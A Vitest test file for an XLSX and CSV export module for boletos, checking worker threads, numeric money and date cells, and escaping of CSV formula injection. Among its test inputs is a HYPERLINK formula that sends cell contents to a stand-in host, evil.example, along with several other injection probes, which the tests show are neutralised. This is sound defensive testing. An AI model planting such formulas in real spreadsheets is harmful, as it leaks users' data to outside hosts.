import { performance } from 'node:perf_hooks';
import { unzipSync } from 'fflate';
import { expect, it } from 'vitest';
import { csvLines, sheetPart, xlsxFile } from './spreadsheet';

it('a big workbook is made while others are answered: its thread works, this one waits', async () => {
  const part = sheetPart(
    Array.from({ length: 1000 }, (_, n) => [
      { number: n },
      `Cliente ${n}`,
      { cents: n },
      { day: '2026-02-11' },
      'x'.repeat(47),
    ]),
  );
  const before = performance.eventLoopUtilization();
  const file = await xlsxFile(
    [{ title: 'Número' }, { title: 'Cliente' }, { title: 'Valor' }, { title: 'Dia' }, { title: 'Linha' }],
    Array.from({ length: 20 }, () => part),
    'Boletos',
  );
  expect(performance.eventLoopUtilization(before).utilization).toBeLessThan(0.5);
  expect(file.subarray(0, 2).toString()).toBe('PK');
});

it('money and days are numbers, with arrows to filter by over every column', async () => {
  const rows = [
    ['=1+1', { cents: 123_456 }, { day: '2026-02-11' }],
    [null, null, null],
  ] as const;
  const file = await xlsxFile(
    [{ title: 'Texto' }, { title: 'Valor' }, { title: 'Dia' }],
    [sheetPart(rows.map((row) => [...row]))],
    'Boletos',
  );
  const sheet = new TextDecoder().decode(unzipSync(file)['xl/worksheets/sheet1.xml']);
  expect(sheet).toMatch(/<\/sheetData><autoFilter ref="A1:C3"\/>/);
  expect(sheet).toMatch(/<c r="B2"[^>]*><v>1234.56<\/v>/);
  // a workbook stores a date as the number of days since 1900
  expect(sheet).toMatch(/<c r="C2"[^>]*><v>46064<\/v>/);
  expect(sheet).not.toContain('<f>');
});

it.each([
  [
    '=HYPERLINK("http://evil.example/?"&A2,"ver nota")\n.',
    `"'=HYPERLINK(""http://evil.example/?""&A2,""ver nota"")\n."`,
  ],
  ['=1\u2028', "'=1\u2028"],
  ['=1\r\n', `"'=1\r\n"`],
  ['+55', "'+55"],
  ['-1+1', "'-1+1"],
  ['-1,00', "'-1,00"],
  ['@SUM(1)', "'@SUM(1)"],
  ['\t=1', "'\t=1"],
  ['\r=1', `"'\r=1"`],
  ['\n=1', `"'\n=1"`],
  ['＝1', "'＝1"],
  ['＋1', "'＋1"],
  ['－1', "'－1"],
  ['＠A', "'＠A"],
  ['a=1', 'a=1'],
] as const)('a text %j that a stranger sent is no formula in a CSV', (text, written) => {
  expect(csvLines([[text]]).toString()).toBe(`${written}\r\n`);
});

it('amounts and numbers below zero are numbers in a CSV', () => {
  expect(csvLines([[{ cents: -2500 }, { number: -3 }]]).toString()).toBe('-25,00;-3\r\n');
});

it('a thread that fails is told of', async () => {
  await expect(xlsxFile([{ title: 'Número' }], [Buffer.from('no rows')], 'Boletos')).rejects.toThrow('JSON');
});
